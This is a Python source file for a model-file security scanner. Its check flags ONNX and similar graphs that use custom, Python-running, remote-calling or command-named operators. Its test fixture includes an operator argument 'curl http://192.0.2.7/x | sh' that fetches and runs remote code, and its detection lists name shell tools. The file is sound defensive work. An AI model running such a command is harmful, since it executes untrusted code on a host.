"""`custom-operator`: a computation graph needs code that is not in its runtime."""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import pairwise

from toadstone.core.check import Check, check
from toadstone.core.fact import Fact, Operator
from toadstone.core.finding import Finding, Severity
from toadstone.core.place import Place
from toadstone.core.value import render
from toadstone.symbols.arguments import Look, looks_of

_PYTHON = frozenset({"PyOp", "PyCustomOp", "PythonOp", "PythonOpGrad", "TritonOp"})
_PAYLOAD = frozenset({Look.COMMAND, Look.CODE, Look.ADDRESS, Look.PATH})
_EXTENSIONS = frozenset({"ai.onnx.contrib", "com.microsoft.extensions"})
_KNOWN = frozenset({
    "", "ai.onnx", "ai.onnx.ml", "ai.onnx.training", "ai.onnx.preview", "ai.onnx.preview.training", "com.microsoft",
    "com.microsoft.nchwc", "com.microsoft.nhwc", "com.microsoft.dml", "com.microsoft.experimental", "com.microsoft.mlfeaturizers",
    "com.microsoft.internal.nhwc", "com.ms.internal.nhwc", "com.ms.internal.nchwc",
})  # fmt: skip
"""Domains of the standard and of ONNX Runtime itself; a longer name that begins like one of them is somebody else's."""

_NEEDS = {
    "mxnet": "is a Python class that has to be registered in the process",
    "pmml": "is a function outside the standard, which evaluators look up as a class by its name",
}
"""What operators of a domain need, where it is no native library."""
_JUDGED = frozenset({"tensorflow", "tensorflow.training", "paddle"})
_WORDS = re.compile(r"[A-Z]+(?![a-z])|[A-Z]?[a-z]+")
_FILLING = frozenset({"op", "flex", "custom", "my"})
_SHELLS = frozenset({"shell", "bash", "powershell", "subprocess", "popen", "dlopen", "backdoor"})
_ALONE = frozenset({"exec", "execute", "system", "eval", "command", "spawn"})
_PAIRS = frozenset(
    f"{one} {other}"
    for verb in ("exec", "execute", "run", "call", "eval", "spawn", "system")
    for thing in ("command", "commands", "cmd", "code", "python", "py", "script", "os", "system")
    for one, other in ((verb, thing), (thing, verb))
    if one != other
) | {"system config", "load library", "ns task", "unix task", "script task", "apple script", "osa script", "js context"}
"""Words that stand next to each other only in names of operators that run commands or code."""

_REMOTE = frozenset({"AzureAudioToText", "AzureTextToText", "AzureTritonInvoker", "OpenAIAudioToText"})
_SHIPPED = """
AudioDecoder BasicTokenizer BertTokenizer BertTokenizerDecoder BlingFireSentenceBreaker BpeDecoder BpeTokenizer CLIPTokenizer
DecodeImage DrawBoundingBoxes EncodeImage GPT2Tokenizer GaussianBlur HfBertTokenizer HfJsonTokenizer ImageDecoder Inverse
MaskedFill NegPos RaggedTensorToDense RaggedTensorToSparse RobertaTokenizer STFT SegmentExtraction SegmentSum
SentencepieceDecoder SentencepieceTokenizer SpmTokenizer StftNorm StringConcat StringECMARegexReplace
StringECMARegexSplitWithOffsets StringEqual StringHash StringHashFast StringJoin StringLength StringLower StringMapping
StringRegexReplace StringRegexSplitWithOffsets StringSlice StringSplit StringStrip StringToVector StringUpper TrieDetokenizer
TrieTokenizer VectorToString WhisperTokenizer WordpieceTokenizer
"""
"""Operators that onnxruntime-extensions brings in native code."""

_EXTENSION_OPERATORS = frozenset(_SHIPPED.split())


@check(
    "custom-operator",
    severity=Severity.MEDIUM,
    reads=Operator,
    references=(
        "CWE-829",
        "CWE-94",
        "MITRE ATLAS 2026.08 AML.T0011.000",
        "OWASP LLM 2026 LLM04",
        "OWASP ML 2023 ML06",
        "NIST AI 100-2e2025 NISTAML.051",
    ),
)
class CustomOperator(Check):
    """The model's graph calls operators that its runtime does not have.

    ## Why it matters
    A graph made of standard operators is data. An operator of any other domain is a name for code that somebody has to
    load into the process first: a native library, or a Python function. A model that "only needs this small library" is how
    code is delivered next to a harmless-looking graph; an operator that calls Python, or sends its inputs to a server, needs
    nothing else.

    ## How it decides
    `high`: operators that run Python (`PyOp`, `PyCustomOp`, `PythonOp`, `PythonOpGrad`, `TritonOp` in any domain, and
    operators of the domains of onnxruntime-extensions that the library itself does not have: these exist only as Python
    functions), operators of an unknown domain that are given a command, code, an address or a path, and unknown ones whose name
    says that they run commands (`ShellExecute`, `PyCall`). `medium`: operators
    that send the model's inputs to a server, and every operator of an unknown domain. Silent: `ai.onnx`, `ai.onnx.ml`,
    `ai.onnx.training`, ONNX Runtime's own `com.microsoft` domains, the operators that onnxruntime-extensions ships, functions
    that the model defines itself, and domains in `allow`.

    ## What it misses
    The names are those of ONNX domains; for TensorFlow (`tensorflow.custom`), TensorFlow Lite (`tflite.custom`), Core ML
    (`coreml.custom`) and PaddlePaddle (`paddle.custom`) the domain stands for all operators that the runtime does not have.
    What a library does once it is loaded, and operators that a runtime was patched to replace.

    ## Remedy
    Ask for an export with standard operators only; if the library is needed, build it from reviewed source and add its domain
    to `allow`.

    ## References
    onnxruntime-extensions `docs/custom_ops.md`; ONNX Runtime "Custom operators" and "Python operators"; CWE-829, CWE-94.
    """

    allow: frozenset[str] = frozenset()
    """Operator domains, or ``domain::Operator`` names, whose code has been reviewed."""

    def examine(self, fact: Operator) -> Iterator[Finding]:
        """Judge one operator."""
        full = f"{fact.domain}::{fact.name}"
        if fact.domain in self.allow or full in self.allow or fact.domain.startswith("torchscript:") or fact.domain in _JUDGED:
            return  # these have checks of their own
        if fact.name in _PYTHON or (fact.domain in _EXTENSIONS and fact.name not in _EXTENSION_OPERATORS | _REMOTE):
            severity, why = Severity.HIGH, "runs Python code of the host"
        elif fact.domain in _EXTENSIONS and fact.name in _REMOTE:
            severity, why = Severity.MEDIUM, "sends the model's inputs to a server"
        elif fact.domain in _EXTENSIONS | _KNOWN:
            return
        else:
            severity, why = _foreign(fact)
        yield self.finding(
            fact.place,
            f"Operator {full} {why}.",
            severity=severity,
            key=full,
            domain=fact.domain,
            operator=fact.name,
            node=fact.node,
            arguments={name: render(value, 200) for name, value in fact.arguments[:8]},
        )

    @classmethod
    def bad(cls) -> Iterator[Fact]:
        """Operators in Python, one that only Python can have registered, a remote one, and two of an unknown domain."""
        place = Place("model.onnx", "", 40)
        yield Operator(place, "pyopmulti_1", "PyOp", "node")
        yield Operator(place, "com.microsoft", "PythonOp", "node")
        yield Operator(place, "ai.onnx.contrib", "MyPreprocessing", "node")
        yield Operator(place, "com.microsoft.extensions", "AzureTextToText", "node")
        yield Operator(place, "my.library", "Fused", "node")
        yield Operator(place, "tensorflow.custom", "ShellExecute", "node")
        yield Operator(place, "my.library", "Exec", "node", (("command", "curl http://192.0.2.7/x | sh"),))

    @classmethod
    def good(cls) -> Iterator[Fact]:
        """Contributed operators of ONNX Runtime, and what onnxruntime-extensions ships."""
        place = Place("model.onnx", "", 40)
        yield Operator(place, "com.microsoft", "FusedMatMul", "node")
        yield Operator(place, "com.microsoft.nchwc", "Conv", "node")
        yield Operator(place, "ai.onnx.contrib", "BertTokenizer", "node")
        yield Operator(Place("model/saved_model.pb"), "tensorflow", "SaveV2", "node")


def _foreign(fact: Operator) -> tuple[Severity, str]:
    """Judge an operator of an unknown domain by what it is called and given."""
    if _runs(fact.name):
        return Severity.HIGH, "is not part of the runtime, and its name says that it runs commands or code"
    looks = looks_of([fact.name, *(value for _, value in fact.arguments)])
    given = [look.value for look in Look if look in looks and look in _PAYLOAD]
    needs = _NEEDS.get(fact.domain, "needs a native library that is not part of the runtime")
    if given:
        return Severity.HIGH, f"{needs}, and is given {' and '.join(given)}"
    return Severity.MEDIUM, needs


def _runs(name: str) -> bool:
    """Whether a name says that commands or code are run: by the words in it, not by their letters."""
    words = [word for found in _WORDS.findall(name[:400]) if (word := found.lower()) not in _FILLING]
    pairs = {f"{one} {other}" for one, other in pairwise(words)}
    return not _SHELLS.isdisjoint(words) or (len(words) == 1 and words[0] in _ALONE) or not _PAIRS.isdisjoint(pairs)
